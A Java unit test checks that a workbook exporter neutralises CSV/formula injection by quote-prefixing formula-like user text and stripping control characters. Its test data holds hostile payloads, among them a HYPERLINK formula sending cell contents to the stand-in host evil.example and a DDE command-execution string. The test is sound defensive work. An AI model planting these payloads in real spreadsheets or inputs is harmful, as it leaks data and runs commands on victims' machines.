package org.openperf.exports;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.openperf.targets.Project;

/** Text from users must never become a formula in an exported workbook (CSV/formula injection, DDE). */
class FormulaInjectionTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")";
    static final List<String> HOSTILE = List.of(HYPERLINK, "+1+1", "-2", "@SUM(1)", "\t=1+2", "\r=1+2",
            "=cmd|' /C calc'!A0");

    static Project hostile() {
        Project p = new Project(2024, HYPERLINK);
        p.setUnit(SampleProjects.QD_UNIT);
        p.setCode("@SUM(1)");
        p.setBudget(new java.math.BigDecimal("10"));
        p.setFiscalFunds(new java.math.BigDecimal("10"));
        p.setPurpose("=cmd|' /C calc'!A0");
        p.setGoal("-2");
        SampleProjects.add(p, "产出指标", "数量指标", "+1+1", "\t=1+2", "-2", "\r=1+2", "5");
        SampleProjects.add(p, "效益指标", "社会效益指标", "@SUM(1)", "=1", "≥90%", "+A1", "85");
        return p;
    }

    @Test
    void hostileTextComesBackAsQuotedStringCellsAndNoCellIsAFormula() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        new TargetTableWorkbookWriter().write(List.of(hostile(), SampleProjects.withPlan()), bytes);

        assertThat(sheetXml(bytes.toByteArray())).as("no <f> element in any sheet").doesNotContain("<f>", "<f ");

        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(bytes.toByteArray()))) {
            List<String> seen = new ArrayList<>();
            int cells = 0;
            for (Sheet s : wb) {
                for (Row row : s) {
                    for (Cell c : row) {
                        cells++;
                        assertThat(c.getCellType()).as(c.getAddress().toString()).isNotEqualTo(CellType.FORMULA);
                        if (c.getCellType() == CellType.STRING) {
                            String v = c.getStringCellValue();
                            boolean risky = WorkbookStyles.formulaLike(v);
                            assertThat(c.getCellStyle().getQuotePrefixed()).as(c.getAddress() + " " + v)
                                    .isEqualTo(risky);
                            if (risky) {
                                seen.add(v);
                            }
                        }
                    }
                }
            }
            assertThat(cells).isGreaterThan(100);
            assertThat(seen).contains(HYPERLINK, "+1+1", "-2", "@SUM(1)", "\t=1+2",
                    "=cmd|' /C calc'!A0", "=1", "+A1");
            Sheet s = wb.getSheetAt(0);
            assertThat(s.getRow(0).getCell(0).getStringCellValue()).isEqualTo("1." + HYPERLINK + "绩效目标表");
            assertThat(s.getRow(2).getCell(1).getStringCellValue()).isEqualTo("@SUM(1)");
            assertThat(s.getRow(3).getCell(1).getStringCellValue()).isEqualTo(HYPERLINK);
            assertThat(s.getRow(3).getCell(1).getCellType()).isEqualTo(CellType.STRING);
            assertThat(s.getRow(8).getCell(4).getStringCellValue()).isEqualTo("-2");
            assertThat(s.getRow(8).getCell(5).getStringCellValue()).isEqualTo("\r=1+2");
        }
    }

    @Test
    void recognisesTheCharactersSpreadsheetsEvaluate() {
        for (String h : HOSTILE) {
            assertThat(WorkbookStyles.formulaLike(h)).as(h).isTrue();
        }
        assertThat(WorkbookStyles.formulaLike("≥93%")).isFalse();
        assertThat(WorkbookStyles.formulaLike("100%")).isFalse();
        assertThat(WorkbookStyles.formulaLike("")).isFalse();
        assertThat(WorkbookStyles.formulaLike(null)).isFalse();
    }

    @Test
    void controlCharactersAreDroppedSoTheFileStaysValid() {
        assertThat(WorkbookStyles.clean("a\u0000b\u0007c\td\ne")).isEqualTo("abc\td\ne");
    }

    static String sheetXml(byte[] xlsx) throws IOException {
        StringBuilder sb = new StringBuilder();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(xlsx))) {
            ZipEntry e;
            while ((e = zip.getNextEntry()) != null) {
                if (e.getName().startsWith("xl/worksheets/")) {
                    sb.append(new String(zip.readAllBytes(), StandardCharsets.UTF_8));
                }
            }
        }
        assertThat(sb).isNotEmpty();
        return sb.toString();
    }

}
